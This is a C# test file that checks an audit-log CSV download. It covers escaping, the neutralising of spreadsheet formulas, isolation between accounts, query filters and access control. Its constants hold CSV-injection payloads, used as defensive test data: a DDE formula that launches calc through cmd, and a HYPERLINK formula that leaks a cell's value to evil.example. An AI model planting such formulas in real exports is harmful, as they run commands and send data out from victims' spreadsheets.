using System.Net;
using System.Text;
using Boltly.Platform.Http;
using Boltly.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace Boltly.Tests.Api.Members;

/// <summary>Settings → Activity's CSV download (<c>GET /settings/activity.csv</c>, the dashboard cookie): a CSV file of
/// the filtered audit log, hostile text made inert for spreadsheets and escaped by RFC 4180, another account's rows never
/// in it.</summary>
public sealed class AuditLogCsvTests(SharedPortal portal)
{
    private const string Header = "time,action,outcome,actor_type,actor_id,actor_name,member_id,member_name,client_address,device,detail";
    private const string Formula = "=cmd|' /C calc'!A0";
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";
    private const string Tricky = "a, b \"quoted\"\nsecond line";

    [Fact]
    public async Task The_download_is_the_callers_filtered_audit_log_with_hostile_text_made_inert_and_escaped()
    {
        var startedAt = portal.Host.Clock.GetUtcNow();
        var mine = await TestUser.CreateAsync(portal.Host);
        var theirs = await TestUser.CreateAsync(portal.Host);
        var recorder = portal.Host.Services.GetRequiredService<SecurityEventRecorder>();
        foreach (var (user, marker) in new[] { (mine, "mine"), (theirs, "theirs") })
        {
            var client = new ClientInfo("203.0.113.7", Hyperlink);
            await recorder.RecordAsync(new AuditEntry(SecurityEventTypes.ApiKeyCreated, SecurityEventOutcomes.Success,
                AuditActor.Member(user.UserId), user.AccountId, client) { Detail = Formula + " " + marker });
            await recorder.RecordAsync(new AuditEntry(SecurityEventTypes.ApiKeyRevoked, SecurityEventOutcomes.Success,
                new AuditActor(AuditActor.ApiKeyType, Guid.NewGuid(), "-2+3 " + marker), user.AccountId, client) { Detail = Tricky + " " + marker });
        }

        // A real sign-in, from a browser whose user agent is a formula: the cookie for the download, and one more row.
        var http = portal.Host.CreateHttpClient();
        http.DefaultRequestHeaders.TryAddWithoutValidation("User-Agent", "@SUM(1+1)*cmd");
        var cookie = DashboardSignIn.SessionCookie(await DashboardSignIn.SubmitAsync(http, await DashboardSignIn.OpenFormAsync(http), mine));

        var all = await DownloadAsync(http, cookie, "");
        Assert.Equal(Header, all.Header);
        var rows = all.Rows;
        Assert.Contains(rows, r => r["action"] == SecurityEventTypes.SignIn && r["device"] == "'@SUM(1+1)*cmd");
        var created = Assert.Single(rows, r => r["action"] == SecurityEventTypes.ApiKeyCreated);
        Assert.Equal("'" + Formula + " mine", created["detail"]);
        Assert.Equal("'" + Hyperlink, created["device"]);
        Assert.Equal(mine.Email, created["actor_name"]);
        Assert.Equal(mine.UserId.ToString(), created["actor_id"]);
        var revoked = Assert.Single(rows, r => r["action"] == SecurityEventTypes.ApiKeyRevoked);
        Assert.Equal(Tricky + " mine", revoked["detail"]);
        Assert.Equal("'-2+3 mine", revoked["actor_name"]);
        Assert.Equal("api_key", revoked["actor_type"]);
        // No cell of the file starts with a character a spreadsheet runs as a formula.
        Assert.All(rows.SelectMany(r => r.Values), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@', cell));
        // Another account's rows never appear.
        Assert.DoesNotContain("theirs", all.Text, StringComparison.Ordinal);
        Assert.DoesNotContain(theirs.UserId.ToString(), all.Text, StringComparison.Ordinal);
        Assert.DoesNotContain(theirs.Email, all.Text, StringComparison.Ordinal);

        // The page's filters apply: by action, by actor type, and by time.
        var byAction = await DownloadAsync(http, cookie, "?action=" + SecurityEventTypes.ApiKeyRevoked);
        Assert.Equal([SecurityEventTypes.ApiKeyRevoked], byAction.Rows.Select(r => r["action"]).Distinct());
        Assert.Single(byAction.Rows);
        var byActor = await DownloadAsync(http, cookie, "?actor=api_key");
        Assert.All(byActor.Rows, r => Assert.Equal("api_key", r["actor_type"]));
        Assert.Single(byActor.Rows);
        var before = await DownloadAsync(http, cookie, "?to=" + Uri.EscapeDataString(startedAt.AddMinutes(-1).ToString("O")));
        Assert.Empty(before.Rows);
        Assert.Equal(Header, before.Header);

        // A filter that is not one is refused, not ignored.
        var bad = await SendAsync(http, cookie, "?action=not_an_action");
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        // Without the dashboard cookie, nothing: an access token does not download it.
        var anonymous = await portal.Host.CreateHttpClient().GetAsync(AuditLogCsv.Path);
        Assert.NotEqual(HttpStatusCode.OK, anonymous.StatusCode);
        var token = await portal.Host.CreateHttpClient().AccessTokenAsync(mine);
        var withToken = await portal.Host.CreateHttpClient().SendWithBearerAsync(HttpMethod.Get, AuditLogCsv.Path, token);
        Assert.NotEqual(HttpStatusCode.OK, withToken.StatusCode);
    }

    private static async Task<HttpResponseMessage> SendAsync(HttpClient http, string cookie, string query)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, AuditLogCsv.Path + query);
        request.Headers.Add("Cookie", cookie);
        return await http.SendAsync(request);
    }

    private static async Task<(string Text, string Header, List<Dictionary<string, string>> Rows)> DownloadAsync(HttpClient http, string cookie, string query)
    {
        var response = await SendAsync(http, cookie, query);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.Equal("activity.csv", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        var text = await response.Content.ReadAsStringAsync();
        var records = Parse(text);
        var header = records[0];
        var rows = records.Skip(1).Select(r =>
        {
            Assert.Equal(header.Count, r.Count);
            return header.Zip(r).ToDictionary(p => p.First, p => p.Second);
        }).ToList();
        return (text, string.Join(',', header), rows);
    }

    /// <summary>RFC 4180: fields split by commas, records by newlines, quoted fields hold commas, quotes (doubled) and newlines.</summary>
    private static List<List<string>> Parse(string text)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"' && field.Length == 0) quoted = true;
            else if (c == ',') { record.Add(field.ToString()); field.Clear(); }
            else if (c == '\n') { record.Add(field.ToString()); field.Clear(); records.Add(record); record = []; }
            else field.Append(c);
        }
        Assert.False(quoted, "the file ends inside a quoted field");
        Assert.True(field.Length == 0 && record.Count == 0, "the last record has no line end");
        return records;
    }
}
